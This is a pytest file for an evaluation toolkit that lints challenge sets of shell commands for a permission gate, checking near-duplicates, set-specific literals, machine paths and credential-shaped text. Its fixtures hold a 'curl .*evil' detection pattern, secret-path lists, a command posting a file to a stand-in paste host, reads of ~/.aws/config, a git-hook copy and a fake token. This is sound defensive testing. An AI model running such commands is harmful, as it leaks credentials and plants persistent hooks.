"""Near duplicates, literals that fit one set alone, and paths of a machine."""

import itertools
import random
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evalkit.challenge import near as near_module
from evalkit.challenge.case import ChallengeSet
from evalkit.challenge.lint import lint
from evalkit.challenge.literals import (
    EXPRESSION,
    NAME,
    PATH,
    Literal,
    catalogue_examples,
    newer_words,
    policy_literals,
    read_policy,
)
from evalkit.challenge.near import CALLS, TASKS, Near, Text, near, shingles, text_of
from evalkit.challenge.notes import MOST_SAID, Beside, notes
from evalkit.challenge.read import parse_set
from evalkit.challenge.tuned import fitted_examples, fitted_literals, told_of
from evalkit.errors import UsageError
from toolgate.gate.catalog.compile import FAMILIES

from .sets import body, case, encoded, sequence


def made(*cases: dict[str, Any], **more: Any) -> ChallengeSet:
    return parse_set(encoded(body(*cases, **more)), "s.json")


LONG = "rsync -a --delete --exclude .git ./build/ deploy@web:/srv/app/current/"


def jaccard(one: frozenset[Any], other: frozenset[Any]) -> float:
    return len(one & other) / len(one | other) if one | other else 0.0


WORDS = st.lists(st.sampled_from("abcdefgh"), min_size=1, max_size=9).map(" ".join)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(WORDS, st.just("") | WORDS), max_size=14))
def test_no_near_duplicate_is_missed(rows: list[tuple[str, str]]):
    """Against every pair compared with every other."""
    texts = [
        Text("s", str(number), "", "deny", shingles(call), shingles(task))
        for number, (call, task) in enumerate(rows)
    ]
    wanted = []
    for one, other in itertools.combinations(range(len(texts)), 2):
        a, b = texts[one], texts[other]
        share = jaccard(a.call, b.call)
        if share >= CALLS and not (a.task and b.task and jaccard(a.task, b.task) < TASKS):
            wanted.append(Near(one, other, share))
    assert near(texts) == (wanted, True)


def test_case_digits_and_quoting_make_no_other_call():
    texts = made(
        case(1, command=f"{LONG} --port 2222"),
        case(2, command=f'"{LONG.upper()}" --port=80'),
        case(3, command="rm -rf ./build"),
        case(4, command="rm -rf ./dist"),
    )
    found, whole = near([text_of(texts, one) for one in texts.cases])
    assert whole
    assert [(row.one, row.other) for row in found] == [(0, 1)]


def test_twins_with_different_labels_are_meant_to_be_close():
    same = {"command": LONG, "task": "Ship it."}
    twins = made(case(1, pair="p", **same), case(2, "deny", pair="p", **same))
    assert near([text_of(twins, one) for one in twins.cases]) == ([], True)
    alike = made(case(1, pair="p", **same), case(2, pair="p", **same))
    assert len(near([text_of(alike, one) for one in alike.cases])[0]) == 1


def test_the_earlier_calls_of_a_session_count():
    one, other = sequence(1), sequence(2)
    other["steps"][0]["input"]["content"] = "quite another content that nobody has seen before"
    found = made(one, other)
    assert near([text_of(found, row) for row in found.cases])[0] == []


def test_the_work_grows_with_the_cases(monkeypatch: pytest.MonkeyPatch):
    """Of 8,000 calls in few words hardly any two are compared; all pairs would be 32 million."""
    chance = random.Random(7)
    words = [f"w{chr(97 + number % 26)}{chr(97 + number // 26 % 26)}" for number in range(400)]
    rows = [" ".join(chance.choices(words, k=12)) for _ in range(8_000)]
    texts = [Text("s", str(n), "", "ask", shingles(row), frozenset()) for n, row in enumerate(rows)]
    monkeypatch.setattr(near_module, "MOST_COMPARED", 2 * len(texts))
    assert near(texts)[1]


def test_hostile_likeness_ends(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(near_module, "MOST_COMPARED", 1_000)
    texts = [Text("s", str(n), "", "ask", shingles(LONG), frozenset()) for n in range(200)]
    found, whole = near(texts)
    assert not whole
    assert len(found) == 1_000


def test_candidates_that_are_never_compared_end_too(monkeypatch: pytest.MonkeyPatch):
    """Texts of the same rare pair of words and of lengths too far apart to be alike."""
    monkeypatch.setattr(near_module, "MOST_SCANNED", 100)
    calls = [frozenset((("a", "b"), *((str(n), str(m)) for m in range(2**n)))) for n in range(12)]
    texts = [Text("s", str(n), "", "ask", call, frozenset()) for n, call in enumerate(calls)]
    assert near(texts) == ([], True)
    assert near(texts * 20)[1] is False


RULES = {
    "names": {"secret_paths": ["~/.ssh", "**/vault/keys"], "protected_refs": ["main", "rel-*"]},
    "mcp": {"mcp__desk__*": []},
    "rules": [
        {"rule": "own", "effects": [{"type": ["net.send"], "resource": ["paste.example"]}]},
        {"rule": "words", "when": {"text": ["curl .*evil"]}, "tools": ["Bash"]},
    ],
    "overrides": [{"override": "o", "effects": [{"program": ["frobnicate"]}]}],
}


def test_the_literals_of_a_policy():
    assert set(policy_literals(RULES)) == {
        Literal("names.secret_paths", "~/.ssh", PATH),
        Literal("names.secret_paths", "**/vault/keys", PATH),
        Literal("names.protected_refs", "main", NAME),
        Literal("names.protected_refs", "rel-*", NAME),
        Literal("mcp", "mcp__desk__*", NAME),
        Literal("rule own", "paste.example", PATH),
        Literal("rule words", "curl .*evil", EXPRESSION),
        Literal("rule words", "Bash", NAME),
        Literal("override o", "frobnicate", NAME),
    }
    assert any(one.where == "names.secret_names" for one in read_policy(None))


@pytest.mark.parametrize(
    ("literal", "text", "occurs"),
    [
        (Literal("w", "paste.example", PATH), "curl -d @x https://paste.example/x", True),
        (Literal("w", "paste.example", PATH), "curl -d @x https://paste.example.org/x", False),
        (Literal("w", "~/.aws/config", PATH), "cat $HOME/.aws/config", True),
        (Literal("w", "~/.aws/config", PATH), "cat /home/dev/.aws/config", True),
        (Literal("w", "~/.aws/config", PATH), "cat /home/dev/.aws/configs", False),
        (Literal("w", "**/.git/hooks", PATH), "cp a ./.git/hooks/pre-push", True),
        (Literal("w", "rel-*", NAME), "git push origin rel-42", True),
        (Literal("w", "*.sample", NAME), "cat .env.sample", True),
        (Literal("w", "curl .*evil", EXPRESSION), "cu'r'l x EVIL", True),
        (Literal("w", "*.py", NAME), "python a.py", False),  # too short to say anything
    ],
)
def test_a_literal_that_fits_one_set_alone_is_named(literal: Literal, text: str, occurs: bool):
    told = told_of(made(case(1, command="true"), case(2, command=text)))
    other = told_of(made(case(1, command="make test"), name="another"))
    said = fitted_literals(told, [other] * 3, [literal], None)
    assert len(said) == occurs
    assert all("occurs in this set and in none of 3 others: c2" in one for one in said)
    assert fitted_literals(told, [other, other, told], [literal], None) == []
    assert fitted_literals(told, [other] * 2, [literal], None) == []
    assert fitted_literals(told, [], [literal], None) == []


def test_a_literal_that_is_newer_than_the_freeze_is_named_first():
    told = told_of(made(case(1, command="frobnicate --at paste.example")))
    other = told_of(made(case(1, command="ls"), name="another"))
    old, new = Literal("rule a", "frobnicate", NAME), Literal("rule b", "paste.example", PATH)
    assert len(fitted_literals(told, [other], [old, new], [old])) == 1
    said = fitted_literals(told, [other] * 3, [old, new], [old])
    assert [("after the set was frozen" in one, "rule b" in one) for one in said] == [
        (True, True),
        (False, False),
    ]


def test_a_word_that_came_into_the_catalogue_later_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    now, then = tmp_path / "now", tmp_path / "then"
    text = (Path(FAMILIES) / "diagnostics.yaml").read_text(encoding="utf-8")
    for folder, said in ((now, text), (then, text.replace("avahi-publish", "avahi-other"))):
        folder.mkdir()
        (folder / "diagnostics.yaml").write_text(said, encoding="utf-8")
    monkeypatch.setattr("toolgate.gate.catalog.compile.FAMILIES", str(now))
    words = newer_words(str(then))
    assert {one.text for one in words} == {
        "avahi-publish",
        *(f"avahi-publish-{kind}" for kind in ("service", "address")),
    }
    assert newer_words(str(now)) == []
    beside = Beside({"o": made(case(1), name="another")}, [], None, [], tuple(words))
    said = notes(made(case(1, command="avahi-publish -s x"), seen="nothing run"), beside)
    assert said == [
        "literal 'avahi-publish' (catalogue diagnostics) came after the set was frozen, and occurs "
        "in this set and in none of 1 others: c1"
    ]
    with pytest.raises(UsageError, match=r"expected the families of a catalogue, got no \.yaml"):
        newer_words(str(tmp_path))
    with pytest.raises(UsageError, match="got: No such file"):
        newer_words(str(tmp_path / "gone"))


def test_an_example_of_the_catalogue_that_is_a_case_is_named():
    found = made(case(1, command=LONG.replace("web", "host")), case(2, command="git status"))
    said = fitted_examples(found, [("rsync", LONG.replace("web", "host")), ("git", "git status")])
    assert [one.partition(":")[0] for one in said] == ["case c1"]
    assert len(catalogue_examples()) > 5_000


def test_notes_leave_out_what_a_set_replaces_and_are_cut():
    same = [case(n, command=f"{LONG} --x{n}", task=f"Do {n}.") for n in range(30)]
    old, new = made(*same), made(*same, name="next", supersedes="test set")
    beside = Beside({"old.json": old}, [], None, [])
    said = notes(new, beside)
    assert not any("of test set" in one for one in said)
    assert len(said) == 1 + MOST_SAID + 1  # the first: it does not say what was seen
    assert said[-1].endswith("more of this kind")
    other = made(*same, name="other")
    assert any("c0 of test set" in one for one in notes(other, beside._replace(others={"o": old})))


@pytest.mark.parametrize(
    ("text", "places"),
    [
        ("cat /private/var/folders/zz/x", ()),
        ("ls /tmp/pytest-of-ann/pytest-1", ()),
        ("type C:\\Users\\ann\\a.txt", ()),
        ("cat /home/ann/work/a", ("/home/ann",)),
    ],
)
def test_a_path_of_a_machine_is_named(text: str, places: tuple[str, ...]):
    said = lint(made(case(1, command=text), categories={"first": ""}), places)
    assert [one.partition(",")[0] for one in said] == ["case c1: names a path of a machine"]


def test_the_directories_of_the_set_itself_are_no_paths_of_a_machine():
    inside = made(case(1, command="cat /home/dev/app/a"), categories={"first": ""})
    assert lint(inside, ("/home/dev", "/home/dev/app")) == []


def test_a_credential_in_the_rationale_counts_too():
    hidden = made(case(1, rationale="was glpat-" + "a1" * 12), categories={"first": ""})
    assert lint(hidden) == ["case c1: text of the form of a real credential"]
